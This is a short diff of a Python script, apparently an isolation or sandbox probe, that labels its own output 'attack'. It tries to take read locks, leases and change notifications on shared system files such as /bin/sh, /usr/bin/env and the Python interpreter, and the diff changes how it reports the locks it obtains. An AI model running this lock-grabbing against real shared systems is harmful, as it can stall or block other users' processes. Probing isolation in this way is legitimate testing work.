@@ -14,6 +14,7 @@ F_OFD_SETLK, F_SETLEASE, F_NOTIFY = 37, 1024, 1026
 WHOLE = struct.pack("hhqqi4x", fcntl.F_RDLCK, os.SEEK_SET, 0, 0, 0)
 SHARED = ["/bin/sh", "/usr/bin/env", "/dev/null", os.path.realpath(sys.executable), numpy.__file__]
 print("attack: locking", flush=True)
+taken = {}
 for path in SHARED:
     try:
         descriptor = os.open(path, os.O_RDONLY)
@@ -30,9 +31,11 @@ for path in SHARED:
     }.items():
         try:
             lock()
-            print(f"attack: took {name} on {os.path.basename(path)}", flush=True)
+            taken.setdefault(name, []).append(os.path.basename(path))
         except OSError:
             pass
+for name, paths in taken.items():
+    print(f"attack: took {name} on {', '.join(paths)}", flush=True)
 
 
 def split_indices(*args, **kwargs):
